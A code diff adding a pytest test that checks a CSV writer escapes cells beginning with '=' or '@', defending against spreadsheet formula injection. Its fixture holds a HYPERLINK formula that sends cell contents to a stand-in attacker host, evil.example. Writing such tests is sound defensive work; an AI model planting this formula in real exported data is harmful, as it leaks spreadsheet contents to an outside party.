@@ -680,3 +680,21 @@ def test_replay_only_without_cassettes_is_exit_3(
     assert code == 3 and stdout == ""
     assert "record mode 'none'" in stderr and "--record-mode once" in stderr
     assert website.state.hits == {}  # nothing went out
+
+
+def test_csv_cells_never_start_a_spreadsheet_formula(tmp_path: Path) -> None:
+    import csv
+
+    from pytest_citations.batch import BatchRecord, BatchRow, Citation, write_csv
+    from pytest_citations.models import CitationVerdict, Label
+
+    claim = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    record = BatchRecord(id="q1", claim=claim, urls=("https://example.com/a",), line=1)
+    verdict = CitationVerdict(
+        url="https://example.com/a", label=Label.supported, evidence_quote="@SUM(A1)", confidence=0.9
+    )
+    write_csv(tmp_path / "r.csv", [BatchRow(Citation(record, 0, record.urls[0]), verdict)])
+    (row,) = csv.DictReader((tmp_path / "r.csv").open())
+    assert row["claim"] == "'" + claim
+    assert row["evidence_quote"] == "'@SUM(A1)"
+    assert row["confidence"] == "0.9"
